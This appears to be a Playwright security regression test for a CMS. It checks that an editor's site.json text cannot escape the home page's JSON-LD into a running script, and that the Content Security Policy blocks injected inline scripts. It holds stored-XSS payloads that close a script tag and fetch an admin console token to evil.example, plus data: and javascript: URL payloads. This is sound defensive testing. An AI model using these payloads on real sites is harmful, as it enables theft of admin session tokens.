// Stored script from content (issue 35): an editor's site.json text that closes the home page's
// JSON-LD and opens a script of its own must run in no visitor's page. Two layers are checked:
// the text stays inside the JSON-LD (shared/common/script-json.ts), and the page's policy allows
// only the scripts the code ships (scripts/astro-script-policy.mjs), so even a script element
// that does get into the page is blocked by the browser.
import { createHash } from 'node:crypto';
import { expect, test } from './support/test.ts';
import type { ContentFile } from '../../src/shared/content/content-files.contract.ts';
import type { ContentVersion, ContentVersionsPage } from '../../src/shared/content/content.contract.ts';
import { CONSOLE_TOKEN_KEY, consoleAdmin } from './support/staff.ts';

/** What an injected script would do: note that it ran, and send the console token away. */
const stolen = (n: number) =>
  `window.__stored=(window.__stored||[]).concat(${n});fetch('https://evil.example/'+localStorage.getItem('${CONSOLE_TOKEN_KEY}'))`;
const hash = (script: string) => `sha256-${createHash('sha256').update(script).digest('base64')}`;

const TAGLINE = `Trade</script><script>${stolen(1)}</script>`;
const LEGAL_NAME = `AfriTrade Hub Ltd.</SCRIPT ><script>${stolen(2)}</script>`;
const SOCIAL_HREF = `https://evil.example/</script><script>${stolen(3)}</script>`;

/** A build takes ~20 s alone, more on a busy machine. */
const BUILD_TIMEOUT = 120_000;

test('an editor cannot put a script into the home page through site.json', async ({ page, request }) => {
  test.setTimeout(180_000);
  const admin = await consoleAdmin(request);
  const read = async () =>
    (
      (await (await request.get('/api/staff/content/files/site.json', { headers: admin.auth })).json()) as {
        data: ContentFile;
      }
    ).data;
  const save = (revision: string, data: unknown) =>
    request.put('/api/staff/content/files/site.json', { headers: admin.auth, data: { revision, data } });

  const file = await read();
  const site = file.data as { tagline: string; legalName: string; social: { name: string; href: string }[] };

  // A social link is an http(s) address: data: and javascript: addresses are refused, naming the field.
  for (const href of ['data:text/html,<script>alert(1)</script>', 'javascript:alert(1)']) {
    const refused = await save(file.revision, {
      ...site,
      social: [{ ...site.social[0]!, href }, ...site.social.slice(1)],
    });
    expect(refused.status(), href).toBe(400);
    expect(JSON.stringify((await refused.json()).errors)).toContain('social');
  }

  const hostile = {
    ...site,
    tagline: TAGLINE,
    legalName: LEGAL_NAME,
    social: [{ ...site.social[0]!, href: SOCIAL_HREF }, ...site.social.slice(1)],
  };
  const saved = await save(file.revision, hostile);
  expect(saved.status(), await saved.text()).toBe(200);
  const published = await request.post('/api/staff/content/publish', {
    headers: admin.auth,
    data: { message: 'Tagline' },
  });
  expect(published.status(), await published.text()).toBe(202);
  const versionId = (await published.json()).data.id as string;
  await expect
    .poll(
      async () =>
        (
          (await (await request.get('/api/staff/content/versions', { headers: admin.auth })).json())
            .data as ContentVersionsPage
        ).items.find((v: ContentVersion) => v.id === versionId)?.status,
      { timeout: BUILD_TIMEOUT },
    )
    .toBe('LIVE');

  // A visitor with an admin's console token in the browser, as in the report.
  const offSite: string[] = [];
  await page.route(
    (url) => url.hostname.endsWith('evil.example'),
    (route) => {
      offSite.push(route.request().url());
      return route.abort('blockedbyclient');
    },
  );
  await page.addInitScript((key) => localStorage.setItem(key, 'the-admins-token'), CONSOLE_TOKEN_KEY);
  const refused: string[] = [];
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) refused.push(message.text());
  });
  const answer = await page.goto('/');
  const policy = answer!.headers()['content-security-policy'] ?? '';
  // The page is served (the footer shows the editor's text as text), and its own inline scripts
  // ran: Astro's island runtime defined its element.
  await expect(page.locator('footer')).toContainText('AfriTrade Hub Ltd.</SCRIPT >');
  await expect.poll(() => page.evaluate(() => customElements.get('astro-island') !== undefined)).toBe(true);

  // The editor's text stays inside the JSON-LD, word for word.
  const jsonLd = JSON.parse((await page.locator('script[type="application/ld+json"]').textContent()) ?? '{}');
  expect(jsonLd).toMatchObject({ slogan: TAGLINE, legalName: LEGAL_NAME });
  expect(jsonLd.sameAs).toContain(SOCIAL_HREF);
  // No script element of the page holds the payload but that data block, none ran, nothing left.
  const executable = await page
    .locator('script:not([type="application/ld+json"])')
    .evaluateAll((scripts) => scripts.filter((s) => s.textContent?.includes('__stored')).length);
  expect(executable).toBe(0);
  expect(await page.evaluate(() => (window as { __stored?: number[] }).__stored)).toBeUndefined();
  // The policy names none of the three scripts: it was not read from this page. And it names
  // every inline script the code ships: the page's own ran without a refusal.
  for (const n of [1, 2, 3]) expect(policy).not.toContain(hash(stolen(n)));
  await page.waitForFunction(() => !document.querySelector('template[data-after-load]'));
  expect(refused).toEqual([]);

  // Were the escaping to fail, the policy still blocks the script: the same page, as served
  // with its header, with one payload put back into it as a script element.
  await page.route('/', async (route) => {
    const served = await route.fetch();
    const body = (await served.text()).replace('</body>', `<script>${stolen(4)}</script></body>`);
    await route.fulfill({ response: served, body });
  });
  const violation = page.waitForEvent('console', (message) => message.text().includes('Content Security Policy'));
  await page.goto('/');
  expect((await violation).text()).toContain('inline script');
  await expect.poll(() => page.evaluate(() => customElements.get('astro-island') !== undefined)).toBe(true);
  expect(await page.evaluate(() => (window as { __stored?: number[] }).__stored)).toBeUndefined();
  expect(offSite).toEqual([]);
});
